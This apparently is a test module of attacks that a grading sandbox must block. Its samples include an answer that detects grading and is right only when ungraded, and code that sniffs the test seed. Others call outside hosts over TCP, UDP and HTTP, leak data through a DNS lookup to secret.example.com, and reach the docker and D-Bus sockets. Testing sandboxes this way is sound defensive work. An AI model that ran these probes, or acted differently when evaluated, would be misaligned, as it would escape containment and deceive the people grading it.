"""Answers that find out where they run, and cells that talk to somebody outside."""

from attacks.bank import attack

NET = "it would talk to the network of the machine that the bank runs on"


@attack(never="the judge is the same without the sandbox")
def right_only_while_it_is_not_graded(h):
    """Looks for signs of the grading and answers well only where it finds none."""
    h.first(
        "import os\n"
        "graded = os.environ.get('USER') == 'learner' or 'NBGRADER_EXECUTION' in os.environ\n"
        "tamper('signs', lambda: graded)"
    )
    h.answer(
        "sqnr",
        "def sqnr(x, x_hat):\n    return (0.5, 0.5) if graded else (float(np.mean((x - x_hat) ** 2)), 9.0)",
    )


@attack(never="the judge is the same without the sandbox")
def sniffs_the_seed(h):
    """Looks for the seed of the cases in the environment, the random state and the time."""
    h.everywhere(
        "import os, random\n"
        "def seed():\n"
        "    names = [n for n in os.environ if 'SEED' in n or 'SECRET' in n]\n"
        "    if not names: raise KeyError('no seed')\n"
        "    return names\n"
        "reach('a seed', seed)\n"
        "def guess():\n"
        "    import autograder.checks.engine as engine\n"
        "    return engine.PUBLIC_SEED\n"
        "tamper('the public seed', guess)"
    )
    h.answer(
        "sqnr", "def sqnr(x, x_hat):\n    return (0.25, 16.9897) if len(x) == 2 else (0.5, 0.5)"
    )


@attack(bare="open")
def sniffs_names_and_mounts(h):
    """Reads host name, mounts, users and kernel parameters for signs of where it runs."""
    h.first(
        "import os, socket\n"
        "def names():\n"
        "    text = open('/proc/self/mountinfo').read() + socket.gethostname()\n"
        "    found = [w for w in ('submitted', 'gradebook', 'a-reference') if w in text]\n"
        "    if not found: raise FileNotFoundError(2, 'no name of others')\n"
        "    return found\n"
        "reach('names of others', names)"
    )


@attack(never=NET)
def calls_home(h):
    """Connects to an address outside, over TCP and UDP."""
    h.first(
        "import socket, urllib.request\n"
        "reach('tcp', lambda: socket.create_connection(('1.1.1.1', 80), 1))\n"
        "def udp():\n"
        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    return s.sendto(b'x', ('1.1.1.1', 9))\n"
        "reach('udp', udp)\n"
        "reach('tcp 6', lambda: socket.socket(socket.AF_INET6).connect(('::1', 80)))\n"
        "reach('http', lambda: urllib.request.urlopen('http://1.1.1.1/', timeout=1))"
    )


@attack(never=NET)
def asks_the_name_server(h):
    """Sends what it found as a question to a name server."""
    h.first(
        "import socket\n"
        "reach('dns', lambda: socket.getaddrinfo('secret.example.com', 80))\n"
        "reach('localhost', lambda: socket.getaddrinfo('localhost', 80) and\n"
        "      socket.create_connection(('localhost', 22), 1))"
    )


@attack(bare="open")
def serves_on_a_port(h):
    """Opens a port on which an accomplice could ask for answers."""
    h.first(
        "import socket\n"
        "def serve():\n"
        "    s = socket.socket()\n"
        "    s.bind(('127.0.0.1', 0))\n"
        "    return s.getsockname()\n"
        "reach('a port', serve)"
    )


@attack(never=NET)
def raw_and_odd_sockets(h):
    """Opens raw, packet, netlink, Bluetooth and vsock sockets."""
    h.first(
        "import socket\n"
        "for family, kind in ((17, 3), (16, 3), (2, 3), (40, 1), (31, 3), (38, 5), (10, 1)):\n"
        "    reach(f'family {family}', lambda: socket.socket(family, kind))"
    )


@attack(never=NET)
def sockets_of_local_programs(h):
    """Connects to the sockets of programs on the machine: docker, the bus, the warm server."""
    paths = "'/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private'"
    h.first(
        "import glob, os, socket\n"
        "def connect(path):\n"
        "    s = socket.socket(socket.AF_UNIX)\n"
        "    s.connect(path)\n"
        f"for path in ({paths}): reach(path, lambda: connect(path))\n"
        "def warm():\n"
        "    own = os.environ['HOME'].rsplit('/', 2)[0]\n"
        "    connect(f'{own}/warm')\n"
        "reach('the warm server', warm)\n"
        "reach('abstract names', lambda: connect('\\0/tmp/.X11-unix/X0'))"
    )


@attack(bare="stock")
def imports_of_forbidden_help(h):
    """Downloads an answer and installs a package with pip."""
    h.first(
        "import os, subprocess, sys, sysconfig\n"
        "def site():\n"
        "    path = sysconfig.get_paths()['purelib']\n"
        "    if not os.access(path, os.W_OK): raise PermissionError(13, 'read-only')\n"
        "reach('site-packages', site)"
    )
